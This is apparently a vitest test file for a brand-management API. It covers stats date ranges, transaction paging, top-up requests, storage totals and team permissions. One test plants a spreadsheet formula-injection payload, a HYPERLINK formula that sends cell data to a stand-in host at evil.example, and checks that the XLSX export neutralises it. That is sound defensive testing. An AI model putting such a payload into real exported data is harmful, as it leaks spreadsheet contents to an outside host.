/** Wallet history, top-up requests, storage by area, teams and the usage-statistics range rule. */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../test-support/test-app.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

describe('GET /brand/stats: the range cannot go beyond today (the server clock: 15.6.2025 12:00 UTC)', () => {
  it("refuses a day that has begun nowhere yet (after 16.6., the date at UTC+14) with a 422 on the field", async () => {
    const agent = await t.signIn('manager@example.com');
    const late = await agent.get('/server/api/v1/brand/stats?from=2025-06-01&to=2030-01-01');
    expect(late.statusCode).toBe(422);
    expect(late.json().errors).toEqual({ to: ['The to field must be a date before or equal to 2025-06-16.'] });
    const dayAfter = await agent.get('/server/api/v1/brand/stats?from=2025-06-17&to=2025-06-17');
    expect(dayAfter.json().errors).toEqual({
      from: ['The from field must be a date before or equal to 2025-06-16.'],
      to: ['The to field must be a date before or equal to 2025-06-16.'],
    });
    const inverted = await agent.get('/server/api/v1/brand/stats?from=2025-06-10&to=2025-06-01');
    expect(inverted.json().errors).toEqual({ to: ['The to field must be a date after or equal to from.'] });
  });

  it("accepts a range ending today, and ending on the user's today where it is already the 16th (Kiribati, Auckland at 00:00–02:00)", async () => {
    const agent = await t.signIn('manager@example.com');
    expect((await agent.get('/server/api/v1/brand/stats?from=2025-06-01&to=2025-06-15')).statusCode).toBe(200);
    expect((await agent.get('/server/api/v1/brand/stats?from=2025-06-01&to=2025-06-16')).statusCode).toBe(200);
  });

  it('writes no cell a spreadsheet would run as a formula, and keeps the numbers numbers', async () => {
    const label = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';
    const before = t.db.prepare('SELECT label FROM brands WHERE id = 1').pluck().get() as string;
    t.db.prepare('UPDATE brands SET label = ? WHERE id = 1').run(label);
    try {
      const agent = await t.signIn('manager@example.com');
      const res = await agent.get('/server/api/v1/brand/stats?from=2025-05-01&to=2025-06-15');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      expect(book.getWorksheet('Brand')!.getCell('B1').value).toBe(`'${label}`);
      const usage = book.getWorksheet('Usage')!;
      const rows = (usage.getSheetValues() as unknown[][]).filter(Boolean).map((row) => row.slice(1));
      expect(rows[0]).toEqual(['Date', 'Credits spent', 'Renders']);
      expect(rows.length).toBeGreaterThan(2);
      for (const [day, spent, renders] of rows.slice(1)) {
        expect([typeof day, typeof spent, typeof renders]).toEqual(['string', 'number', 'number']);
      }
      expect(rows.at(-1)![0]).toBe('Total');
    } finally {
      t.db.prepare('UPDATE brands SET label = ? WHERE id = 1').run(before);
    }
  });
});

describe('GET /balance-manager/transactions', () => {
  const url = '/server/api/v1/balance-manager/transactions';

  it('pages the brand history newest first, naming the template and who rendered it', async () => {
    const agent = await t.signIn('manager@example.com');
    const first = (await agent.get(`${url}?limit=5`)).json();
    const total = t.db.prepare('SELECT COUNT(*) FROM credit_transactions WHERE brand_id = 1').pluck().get() as number;
    expect(first).toMatchObject({ current_page: 1, per_page: 5, total, last_page: Math.ceil(total / 5) });
    expect(first.data).toHaveLength(5);
    const dates = first.data.map((r: { created_at: string }) => r.created_at);
    expect([...dates].sort().reverse()).toEqual(dates);
    const second = (await agent.get(`${url}?limit=5&page=2`)).json();
    expect(second.data[0].created_at <= dates[4]).toBe(true);
    expect(second.data.map((r: { id: number }) => r.id)).not.toContain(first.data[4].id);

    const linked = (await agent.get(`${url}?limit=100`)).json().data.find((r: { visual_build_id: number | null }) => r.visual_build_id !== null);
    expect(linked).toMatchObject({ reason: 'render', visual: { id: expect.any(Number), name: expect.any(String) }, user: { id: expect.any(Number), name: expect.any(String) } });
    expect(linked.amount).toBeLessThan(0);
  });

  it('filters by a period of days', async () => {
    const agent = await t.signIn('manager@example.com');
    const { data, total } = (await agent.get(`${url}?from=2025-06-01&to=2025-06-10&limit=100`)).json();
    const expected = t.db.prepare("SELECT COUNT(*) FROM credit_transactions WHERE brand_id = 1 AND substr(created_at, 1, 10) BETWEEN '2025-06-01' AND '2025-06-10'").pluck().get();
    expect(total).toBe(expected);
    for (const r of data as { created_at: string }[]) expect(r.created_at.slice(0, 10) >= '2025-06-01' && r.created_at.slice(0, 10) <= '2025-06-10').toBe(true);
    expect((await agent.get(`${url}?from=2025-06-10&to=2025-06-01`)).statusCode).toBe(422);
  });

  it('keeps brands apart and obeys the money rule', async () => {
    const manager = await t.signIn('manager@example.com');
    const globex = (await manager.get(`${url}?limit=100`, { brand: 'globex' })).json();
    expect(globex.total).toBe(t.db.prepare('SELECT COUNT(*) FROM credit_transactions WHERE brand_id = 2').pluck().get());
    const editor = await t.signIn('editor@example.com');
    expect((await editor.get(url, { brand: 'acme' })).statusCode).toBe(403);
    expect((await editor.get(url, { brand: 'globex' })).statusCode).toBe(200);
  });
});

describe('top-up requests', () => {
  const url = '/server/api/v1/balance-manager/top-up-request';

  it('lets a manager ask for credits, and lists the requests', async () => {
    const agent = await t.signIn('manager@example.com');
    const created = await agent.post(url, { amount: 300, note: '  Q3 campaign  ' });
    expect(created.statusCode).toBe(201);
    expect(created.json().data).toMatchObject({ amount: 300, note: 'Q3 campaign', status: 'pending', user: { id: 1, name: 'Marta Manager' } });
    const { data } = (await agent.get(url)).json();
    expect(data[0]).toMatchObject({ amount: 300, status: 'pending' });
  });

  it('validates the amount, and refuses everyone but managers', async () => {
    const agent = await t.signIn('manager@example.com');
    expect((await agent.post(url, { amount: 0 })).json().errors).toHaveProperty('amount');
    expect((await agent.post(url, { amount: 'lots' })).statusCode).toBe(422);
    expect((await (await t.signIn('visitor@example.com')).post(url, { amount: 10 })).statusCode).toBe(403);
    expect((await (await t.signIn('editor@example.com', 'acme')).get(url)).statusCode).toBe(403);
  });
});

describe('GET /brand/storage', () => {
  it('sums each area from its own files and records, with the brand quota in bytes', async () => {
    const { data } = (await (await t.signIn('manager@example.com')).get('/server/api/v1/brand/storage')).json();
    expect(data.total).toBe(100 * 1024 * 1024 * 1024);
    expect(data.inodes.total).toBeGreaterThan(data.inodes.used);
    expect(data.volume.total).toBe(2 * data.total);
    expect(data.areas.map((a: { area: string }) => a.area)).toEqual(['ad-sets', 'asset-groups', 'asset-library', 'feeds', 'visuals']);
    const area = (name: string) => data.areas.find((a: { area: string }) => a.area === name);
    const adSetBytes = t.db.prepare("SELECT SUM(size) FROM files WHERE brand_id = 1 AND path LIKE '/ad-sets/%'").pluck().get();
    expect(area('ad-sets')).toMatchObject({ bytes: adSetBytes, files: 8, items: 5 });
    expect(area('ad-sets').largest[0]).toMatchObject({ name: 'Campaign 1.5', bytes: 5 * 700 * 1024 + 260 * 1024, files: 2 });
    expect(area('feeds').largest.map((i: { name: string }) => i.name)).toEqual(['Product feed 1', 'Product feed 2', 'Product feed 3', 'Product feed 4']);
    const visuals = area('visuals');
    expect(visuals.bytes).toBe(visuals.largest.reduce((sum: number, i: { bytes: number }) => sum + i.bytes, 0));
    expect(visuals.largest[0].bytes).toBeGreaterThanOrEqual(visuals.largest[1].bytes);
  });

  it('counts a newly uploaded library file in the asset library only', async () => {
    const agent = await t.signIn('manager@example.com', 'stark');
    const before = (await agent.get('/server/api/v1/brand/storage')).json().data.areas;
    t.db.prepare("INSERT INTO files (brand_id, user_id, path, name, mime, size, content, created_at) VALUES (5, 1, '/', 'big.mp4', 'video/mp4', 4096, x'00', '2025-06-15')").run();
    const after = (await agent.get('/server/api/v1/brand/storage')).json().data.areas;
    const library = (areas: { area: string; bytes: number }[]) => areas.find((a) => a.area === 'asset-library')!.bytes;
    expect(library(after) - library(before)).toBe(4096);
    expect(after.filter((a: { area: string }) => a.area !== 'asset-library')).toEqual(before.filter((a: { area: string }) => a.area !== 'asset-library'));
  });

  it('is 403 for editors outside collaborative mode', async () => {
    const editor = await t.signIn('editor@example.com');
    expect((await editor.get('/server/api/v1/brand/storage', { brand: 'acme' })).statusCode).toBe(403);
    expect((await editor.get('/server/api/v1/brand/storage', { brand: 'globex' })).statusCode).toBe(200);
  });
});

describe('teams', () => {
  it('lists the brand teams with members, upload directories and credits spent this month', async () => {
    const { data } = (await (await t.signIn('manager@example.com')).get('/server/api/v1/team')).json();
    expect(data.map((team: { name: string }) => team.name)).toEqual(['Acme Corporation creative team', 'Acme social team']);
    expect(data[0].members_count).toBeGreaterThan(0);
    expect(data[0].upload_directories.length).toBeGreaterThan(0);
    expect(typeof data[0].credits_spent_this_month).toBe('number');
    expect(data[1]).toMatchObject({ members_count: 0, upload_directories: [], credits_spent_this_month: 0 });
  });

  it('answers one team with its members; another brand’s team and an unknown id are 404', async () => {
    const agent = await t.signIn('manager@example.com');
    const { data } = (await agent.get('/server/api/v1/team/1')).json();
    expect(data.members.map((m: { user: { name: string } }) => m.user.name)).toContain('Eva Editor');
    expect((await agent.get('/server/api/v1/team/2')).statusCode).toBe(404);
    expect((await agent.get('/server/api/v1/team/99999')).statusCode).toBe(404);
    expect((await agent.get('/server/api/v1/team/2', { brand: 'globex' })).statusCode).toBe(200);
  });

  it('lets managers rename and move members; others get 403', async () => {
    const agent = await t.signIn('manager@example.com', 'stark');
    const id = t.db.prepare('SELECT id FROM teams WHERE brand_id = 5').pluck().get() as number;
    expect((await agent.put(`/server/api/v1/team/${id}`, { name: '' })).json().errors).toHaveProperty('name');
    expect((await agent.put(`/server/api/v1/team/${id}`, { name: 'Renamed' })).json().data.name).toBe('Renamed');
    const added = (await agent.post(`/server/api/v1/team/${id}/member`, { user_id: 1 })).json().data;
    expect(added.members.map((m: { user: { id: number } }) => m.user.id)).toContain(1);
    expect((await agent.post(`/server/api/v1/team/${id}/member`, { user_id: 6 })).statusCode).toBe(422);
    const removed = (await agent.delete(`/server/api/v1/team/${id}/member/1`)).json().data;
    expect(removed.members.map((m: { user: { id: number } }) => m.user.id)).not.toContain(1);
    const visitor = await t.signIn('visitor@example.com', 'acme');
    expect((await visitor.put('/server/api/v1/team/1', { name: 'Mine' })).statusCode).toBe(403);
  });

  it('is 403 for editors outside collaborative mode', async () => {
    expect((await (await t.signIn('editor@example.com', 'acme')).get('/server/api/v1/team')).statusCode).toBe(403);
  });
});
